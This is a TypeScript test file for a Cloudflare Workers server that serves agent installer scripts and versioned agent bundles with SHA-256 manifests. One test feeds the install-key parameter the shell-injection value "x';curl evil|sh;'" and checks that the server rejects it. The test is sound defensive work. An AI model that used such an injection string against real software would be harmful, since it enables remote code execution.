import { env, exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { ORIGIN } from "../../../test/client.ts";
import { app } from "../app.ts";

// The installer and artifact routes against the pool's assets: test/fixtures/agent-build, a stand-in build
// (vitest.config.ts), whose agent is version 0.2.0.

const get = (path: string) => exports.default.fetch(new Request(`${ORIGIN}${path}`));

/** An assets binding with no agent build, as on a server where `npm run build` has not run. */
const noBuild: Fetcher = {
  fetch: async () => new Response("Not Found", { status: 404 }),
  connect: () => {
    throw new Error("the assets binding has no sockets");
  },
};
const onServer = (path: string, bindings: Partial<Env> & Record<string, unknown>) => app.request(`${ORIGIN}${path}`, {}, { ...env, ...bindings });

describe("GET /install.sh and /install.ps1", () => {
  it("serves the script with this server's address and the install key filled in, never cached", async () => {
    const response = await get("/install.sh?k=abcDEF123_-abcDEF123_-abcDEF1234");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const script = await response.text();
    expect(script).toContain("HEARTH_SERVER='http://hearth.test'\n");
    expect(script).toContain("HEARTH_INSTALL_KEY='abcDEF123_-abcDEF123_-abcDEF1234'\n");
    expect(script).toContain("HEARTH_RUNTIME_BASE='https://registry.npmjs.org'\n");
    expect(script).not.toContain("@@");

    const ps1 = await get("/install.ps1");
    expect(ps1.status).toBe(200);
    expect(ps1.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    const windows = await ps1.text();
    expect(windows).toContain("$HearthServer = 'http://hearth.test'\n");
    expect(windows).toContain("$HearthInstallKey = ''\n");
  });

  it("uses AGENT_RUNTIME_BASE for the runtime when the server sets it", async () => {
    const script = await (await onServer("/install.sh", { AGENT_RUNTIME_BASE: "http://127.0.0.1:4873/" })).text();
    expect(script).toContain("HEARTH_RUNTIME_BASE='http://127.0.0.1:4873'\n");
  });

  it("answers a key that is not one with a script that says so and exits 1 (200, so that curl -f passes it on)", async () => {
    const response = await get(`/install.sh?k=${encodeURIComponent("x';curl evil|sh;'")}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("x-hearth-refused")).toBe("400");
    const script = await response.text();
    expect(script).toMatch(/^#!\/bin\/sh\n/);
    expect(script).toContain("Copy the line again from Settings");
    expect(script).toMatch(/\nexit 1\n$/);
    expect(script).not.toContain("curl evil");
    const ps1 = await get("/install.ps1?k=a%20b");
    expect(ps1.headers.get("x-hearth-refused")).toBe("400");
    expect(await ps1.text()).toContain("throw 'The install key");
  });

  it("answers with a script that says to build the agent when the server has none", async () => {
    const sh = await onServer("/install.sh", { ASSETS: noBuild });
    expect(sh.status).toBe(200);
    expect(sh.headers.get("x-hearth-refused")).toBe("503");
    expect(sh.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await sh.text()).toBe("#!/bin/sh\n# Hearth could not give you its installer.\necho 'This Hearth server has no agent build yet: run `npm run build` on it' >&2\nexit 1\n");
    const ps1 = await onServer("/install.ps1", { ASSETS: noBuild });
    expect(ps1.headers.get("x-hearth-refused")).toBe("503");
    expect(await ps1.text()).toContain("throw 'This Hearth server has no agent build yet: run `npm run build` on it'");
  });
});

describe("GET /agent/…", () => {
  it("serves the manifest with the bundle's absolute URL, and the bundle it names with that SHA-256", async () => {
    const response = await get("/agent/manifest.json");
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("no-store");
    const manifest: { version: string; app: { url: string; path: string; sha256: string; size: number }; runtime: { base: string } } = await response.json();
    expect(manifest.version).toBe("0.2.0");
    expect(manifest.app.url).toBe("http://hearth.test/agent/0.2.0/hearth.cjs");
    expect(manifest.runtime.base).toBe("https://registry.npmjs.org");

    const bundle = await get(new URL(manifest.app.url).pathname);
    expect(bundle.status).toBe(200);
    expect(bundle.headers.get("x-content-type-options")).toBe("nosniff");
    const bytes = new Uint8Array(await bundle.arrayBuffer());
    expect(bytes.byteLength).toBe(manifest.app.size);
    const digest = [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))].map((b) => b.toString(16).padStart(2, "0")).join("");
    expect(digest).toBe(manifest.app.sha256);
  });

  it("names AGENT_RUNTIME_BASE as the runtime's base when set", async () => {
    const manifest: { runtime: { base: string } } = await (await onServer("/agent/manifest.json", { AGENT_RUNTIME_BASE: "http://127.0.0.1:4873" })).json();
    expect(manifest.runtime.base).toBe("http://127.0.0.1:4873");
  });

  it("answers 404, never the web app's page, for a version it does not have, the templates, or anything else", async () => {
    for (const path of ["/agent/0.1.0/hearth.cjs", "/agent/install.sh.in", "/agent/install.ps1.in", "/agent/", "/agent/0.2.0/other.js", "/agent/0.2.0/hearth.cjs/x"]) {
      const response = await get(path);
      expect(response.status, path).toBe(404);
      expect(await response.text(), path).not.toContain("<html");
    }
    const unbuilt = await onServer("/agent/manifest.json", { ASSETS: noBuild });
    expect(unbuilt.status).toBe(404);
    expect(await unbuilt.json()).toEqual({ error: { code: "not_found", message: "This Hearth server has no agent build yet: run `npm run build` on it." } });
  });
});
